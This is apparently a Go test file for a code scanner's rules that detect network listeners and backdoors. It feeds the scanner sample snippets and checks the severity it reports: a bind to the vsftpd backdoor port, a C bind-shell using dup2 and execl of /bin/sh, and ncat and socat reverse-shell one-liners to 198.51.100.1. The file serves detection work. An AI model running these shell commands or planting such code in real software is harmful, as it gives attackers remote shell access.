package listener

import (
	"glassbox.dev/scan/rules/internal/ruletest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"glassbox.dev"
	"glassbox.dev/scan"
)

// file builds a scan.File as the engine would, with Lang from the name.
func file(path, content string) *scan.File { return ruletest.File(path, []byte(content)) }

// TestSpecifics pins severities and places for the cases that matter.
func TestSpecifics(t *testing.T) {
	tests := []struct {
		name, path, src string
		rule            string
		sev             glassbox.Severity
		line            int
		snippet         string
	}{
		{"vsftpd port 6200 is a known backdoor port", "str.c",
			"int s;\nvoid f(void){\n sa.sin_port = htons(6200);\n bind(s, 0, 0); listen(s, 1);\n}\n",
			"GB0202", glassbox.SeverityHigh, 3, "htons(6200)"},
		{"an arbitrary port is medium", "srv.py",
			"import socket\ns=socket.socket()\ns.bind(('', 47123))\n",
			"GB0202", glassbox.SeverityMedium, 3, ".bind(('', 47123)"},
		{"listener in init is high, at the call", "x.go",
			"package x\n\nimport \"net\"\n\nfunc init() {\n\tnet.Listen(\"tcp\", \":8080\")\n}\n",
			"GB0201", glassbox.SeverityHigh, 6, `net.Listen("tcp", ":8080")`},
		{"dup2 then execl of /bin/sh is critical", "bd.c",
			"int main(){ int c = accept(s,0,0);\n dup2(c,0); dup2(c,1);\n execl(\"/bin/sh\",\"sh\",0); }\n",
			"GB0203", glassbox.SeverityCritical, 2, "dup2(c,0); dup2(c,1);"},
		{"ncat --exec cmd.exe", "run.bat.sh",
			"ncat 198.51.100.1 4443 --exec cmd.exe\n",
			"GB0203", glassbox.SeverityCritical, 1, "ncat 198.51.100.1 4443 --exec cmd.exe"},
		{"socat exec bash", "x.sh",
			"socat tcp-connect:198.51.100.1:443 exec:'bash -li',pty,stderr\n",
			"GB0203", glassbox.SeverityCritical, 1, "socat tcp-connect:198.51.100.1:443 exec:'bash"},
		{"in test code it is low and says so", "pkg/x_test.go",
			"package x\n\nimport \"net\"\n\nfunc init() { net.Listen(\"tcp\", \":1\") }\n",
			"GB0201", glassbox.SeverityLow, 5, `net.Listen("tcp", ":1")`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := New().Analyze(file(tt.path, tt.src))
			for _, f := range fs {
				if f.RuleID != tt.rule {
					continue
				}
				if f.Severity != tt.sev || f.Region.StartLine != tt.line || f.Snippet != tt.snippet {
					t.Errorf("got %s %s line %d %q, want %s line %d %q", f.RuleID, f.Severity, f.Region.StartLine, f.Snippet, tt.sev, tt.line, tt.snippet)
				}
				if tt.sev == glassbox.SeverityLow && !strings.Contains(f.Message, "in test code") {
					t.Errorf("message %q does not say test code", f.Message)
				}
				return
			}
			t.Errorf("no %s finding in %v", tt.rule, fs)
		})
	}
}

// TestRules checks the rule table is complete and in the family's range.
func TestRules(t *testing.T) {
	for _, r := range New().Rules() {
		if !strings.HasPrefix(r.ID, "GB02") || r.Name == "" || r.Family != Family || r.Summary == "" || r.Explanation == "" || r.Severity.Rank() < 0 {
			t.Errorf("bad rule %+v", r)
		}
	}
}

// FuzzAnalyze checks the analyser never panics, whatever the language.
func FuzzAnalyze(f *testing.F) {
	paths, _ := filepath.Glob("testdata/*/*")
	for _, p := range paths {
		b, _ := os.ReadFile(p)
		f.Add(filepath.Base(p), b)
	}
	f.Fuzz(func(t *testing.T, name string, content []byte) {
		for _, lang := range []string{"go", "c", "python", "javascript", "shell", ""} {
			fs := New().Analyze(&scan.File{Path: name, Content: content, Lang: lang})
			for _, x := range fs {
				if x.RuleID == "" || x.Region.StartLine < 1 {
					t.Fatalf("bad finding %+v", x)
				}
			}
		}
	})
}

// TestCorpus is the specification by example (see ruletest.Corpus).
func TestCorpus(t *testing.T) { ruletest.Corpus(t, New(), ruletest.AsSource) }

// TestConcurrent runs the analyser from many goroutines (run with -race).
func TestConcurrent(t *testing.T) { ruletest.Concurrent(t, New(), ruletest.AsSource) }
